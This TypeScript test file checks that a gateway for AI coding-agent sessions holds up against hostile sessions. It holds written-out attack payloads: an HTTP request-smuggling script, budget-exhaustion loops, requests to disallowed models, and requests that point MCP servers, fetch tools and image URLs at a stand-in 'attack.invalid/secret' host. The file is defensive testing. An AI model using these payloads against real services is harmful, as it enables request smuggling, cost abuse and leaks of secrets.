// @module-tag claude-code
// @module-tag slow
import { answerAll } from '../support/api-answers.ts'
import { beforeAll, describe, expect, test } from 'vitest'
import { sumOf } from '../../src/lib/lists.ts'
import { installedEngines, type InstalledEngine } from '../support/conformance/matrix.ts'
import { expectOutcomes, outcomesOf } from '../support/security-page.ts'
import { REAL_KEY, runHostile, type HostileRun } from '../support/hostile-sessions.ts'

/** A body that is a request of its own where it is taken for the next one on the connection. */
const SMUGGLES = `
const hidden = request('POST', '/v1/messages/batches', '{}') + request('GET', '/v1/files', null)
for (const framing of ['content-length: ' + hidden.length, 'transfer-encoding: chunked']) {
  const body = framing.startsWith('c') ? hidden : hidden.length.toString(16) + '\\r\\n' + hidden + '\\r\\n0\\r\\n\\r\\n'
  console.log((await send('GET /v1/models HTTP/1.1\\r\\nhost: x\\r\\nauthorization: Bearer ' + token + '\\r\\n' + framing + '\\r\\n\\r\\n' + body)).slice(0, 100))
}
`
/** Requests at once, each of which costs almost half of what the case may. */
const SPENDS = `
const ask = () => send(request('POST', endpoint, question(model, 'This is session spends.', 30000)), 20000)
const answers = await Promise.all(Array.from({ length: 30 }, ask))
console.log(answers.map((text) => text.slice(9, 12)).join(' '))
`
/** The same, one after the other, without waiting for an answer. */
const HANGS_UP = `
for (let n = 0; n < 8; n += 1) await send(request('POST', endpoint, question(model, 'This is session hangs.', 30000)), 400)
`
const ASKS_ANOTHER = `
for (const other of ['claude-opus-4-1', 'gpt-5-pro'])
  console.log(await send(request('POST', endpoint, question(other, 'This is session another.')), 5000))
`
/** Requests by which the API would reach something for the session. */
const REACHES_OUT = `
const url = 'https://attack.invalid/secret'
const block = (value) => isMessages ? { messages: [{ role: 'user', content: [value] }] } : { input: [{ role: 'user', content: [value] }] }
const more = isMessages
  ? [{ mcp_servers: [{ type: 'url', url, name: 'a' }] }, { container: 'c' }, { tools: [{ type: 'web_fetch_20250910', name: 'web_fetch' }] },
    { tools: [{ type: 'code_execution_20250825', name: 'code_execution' }] }, block({ type: 'image', source: { type: 'url', url } }),
    block({ type: 'document', source: { type: 'file', file_id: 'f' } })]
  : [{ tools: [{ type: 'mcp', server_url: url, server_label: 'a' }] }, { tools: [{ type: 'web_search' }] }, { previous_response_id: 'r' },
    { conversation: 'c' }, { background: true }, { store: true }, block({ type: 'input_image', image_url: url }), block({ type: 'input_file', file_url: url })]
for (const one of more) console.log((await send(request('POST', endpoint, question(model, 'This is session reaches.', 100, one)))).slice(0, 60))
await send(request('POST', endpoint, question(model, 'This is session reaches.', 100, { service_tier: 'priority' }), 'x-attack: 1\\r\\n'))
`
/** A model that only the package names. */
const NAMED = { claude: 'claude-haiku-4-5', codex: 'gpt-5-nano' }
const ASKS_A_NAMED = `
const named = isMessages ? '${NAMED.claude}' : '${NAMED.codex}'
console.log((await send(request('POST', endpoint, question(named, 'This is session named.')), 5000)).slice(0, 12))
`
const ATTACKS = {
  'attack-reaches-out': REACHES_OUT,
  'attack-smuggles': SMUGGLES,
  'attack-spends': SPENDS,
  'attack-hangs-up': HANGS_UP,
  'attack-asks-another': ASKS_ANOTHER,
  'asks-a-named-model': ASKS_A_NAMED,
}
const OPTIONS = { maxCostUsd: 100, maxCostUsdPerCase: 1.2 }

const INNOCENTS = ['innocent-one', 'innocent-two', 'innocent-three']

/** Tokens of answers that $1.20 pay for. */
const MOST: Readonly<Record<string, number>> = { 'claude-code': 80_000, codex: 120_000, copilot: 80_000 }

/** The tokens that an answer may have. */
function limitIn(body: string): number {
  return Number(/"max_(?:output_|completion_)?tokens":(\d+)/.exec(body)?.[1])
}

interface EngineRun {
  readonly engine: InstalledEngine
  readonly run: HostileRun
}

describe('sessions that attack the gateway', { tags: ['claude-code', 'codex', 'copilot'] }, () => {
  let runs: readonly EngineRun[]

  beforeAll(async () => {
    const engines = await installedEngines()
    runs = await Promise.all(
      engines.map(async (engine) => ({
        engine,
        run: await runHostile(engine, {
          attacks: ATTACKS,
          innocents: INNOCENTS,
          options: OPTIONS,
          files: {
            'agents/helper.md': `---\nname: helper\ndescription: Helps.\nmodel: ${NAMED.claude}\n---\nHelp.\n`,
            'skills/nano/SKILL.md': `---\nname: nano\ndescription: Small.\nmodel: ${NAMED.codex}\n---\nBe small.\n`,
          },
          answer(session, request) {
            if (session === 'hangs') return { body: null }
            if (session === 'named') return answerAll(request)
            return session === 'spends' ? answerAll(request, 'm', limitIn(request.body)) : null
          },
        }),
      })),
    )
  })

  test('cost themselves alone', () => {
    for (const { engine, run } of runs) {
      const ends = Object.fromEntries(
        run.report.cases.map(({ name, outcome, error_code }) => [name, error_code ?? outcome]),
      )
      expect({ engine: engine.name, ...ends }, run.finished.all).toEqual({
        engine: engine.name,
        'attack-reaches-out': 'unexpected-request',
        'attack-smuggles': 'unexpected-request',
        'attack-spends': 'budget-spent',
        'attack-hangs-up': 'budget-spent',
        'attack-asks-another': 'unexpected-request',
        'asks-a-named-model': 'passed',
        ...Object.fromEntries(INNOCENTS.map((name) => [name, 'passed'])),
      })
    }
  })

  test('end as SECURITY.md has it', async () => {
    const ended = runs.map(({ engine, run }) => ({ engine: engine.name, cases: run.report.cases }))
    await expectOutcomes('gateway', ['session', ...ended.map(({ engine }) => engine)], outcomesOf(ended))
  })

  test('smuggle no request of their own', () => {
    for (const { engine, run } of runs) {
      const targets = new Set(run.upstream.requests.map(({ method, target }) => `${method} ${target}`))
      const path = engine.name === 'codex' ? '/v1/responses' : '/v1/messages'
      expect([...targets].filter((target) => target.replace(/\?beta=true$/, '') !== `POST ${path}`)).toEqual([])
      expect(run.upstream.violations).toEqual([])
    }
  })

  test('spend no more than their case may', () => {
    for (const { engine, run } of runs)
      for (const session of ['spends', 'hangs']) {
        const passed = run.upstream.requests.filter(({ body }) => body.includes(`This is session ${session}.`))
        const tokens = sumOf(passed, ({ body }) => limitIn(body))
        expect([engine.name, session, passed.length >= 1, tokens <= MOST[engine.name]!]).toEqual([
          engine.name,
          session,
          true,
          true,
        ])
      }
  })

  test('ask no model that neither the run nor its package names', () => {
    for (const { run } of runs) {
      expect(run.upstream.requests.some(({ body }) => /"model":"(?:claude-opus-4-1|gpt-5-pro)"/.test(body))).toBe(false)
      expect(run.case('attack-asks-another').error).toMatch(
        /: The session asked the model "claude-opus-4-1"\. Only the run's own model and those that its package names may be asked: /,
      )
    }
  })

  test('have the API reach nothing for them, and the report lists what was refused', () => {
    for (const { engine, run } of runs) {
      const sent = run.upstream.requests.filter(({ body }) => body.includes('This is session reaches.'))
      expect(
        sent.filter(({ body, headers }) =>
          /attack\.invalid|priority|"store":true/.test(`${body}${JSON.stringify(headers)}`),
        ),
      ).toEqual([])
      expect(sent.flatMap(({ headers }) => headers.filter(([name]) => name === 'x-attack'))).toEqual([])
      const [refused = '', removed = ''] = run
        .case('attack-reaches-out')
        .notices.filter((text) => text.startsWith('The gateway '))
      const first = engine.name === 'codex' ? 'a tool that the API runs, "mcp"' : 'the field "mcp_servers"'
      expect(refused).toContain(`The gateway refused requests of the session: ${first}; `)
      expect(refused.split('; ')).toHaveLength(engine.name === 'codex' ? 8 : 6)
      expect(removed).toBe(
        'The gateway leaves out parts of requests that it does not know: the field "service_tier", the header "x-attack".',
      )
      for (const name of INNOCENTS)
        expect(run.case(name).notices.filter((text) => text.startsWith('The gateway '))).toEqual([])
    }
  })

  test('may ask the models that their package names', () => {
    for (const { engine, run } of runs) {
      const asked = run.upstream.requests.filter(({ body }) => body.includes('This is session named.'))
      const model = engine.name === 'codex' ? NAMED.codex : NAMED.claude
      expect([engine.name, ...asked.map(({ body }) => /"model":"([^"]+)"/.exec(body)?.[1])]).toEqual([
        engine.name,
        model,
      ])
    }
  })

  test('learn no key: it is in the requests of the gateway alone, once in each', () => {
    for (const { run } of runs) {
      for (const { headers, body } of run.upstream.requests) {
        expect(headers.filter(([, value]) => value.includes(REAL_KEY))).toHaveLength(1)
        expect(body).not.toContain(REAL_KEY)
      }
      expect(`${JSON.stringify(run.report)}${run.finished.all}`).not.toContain(REAL_KEY)
    }
  })
})
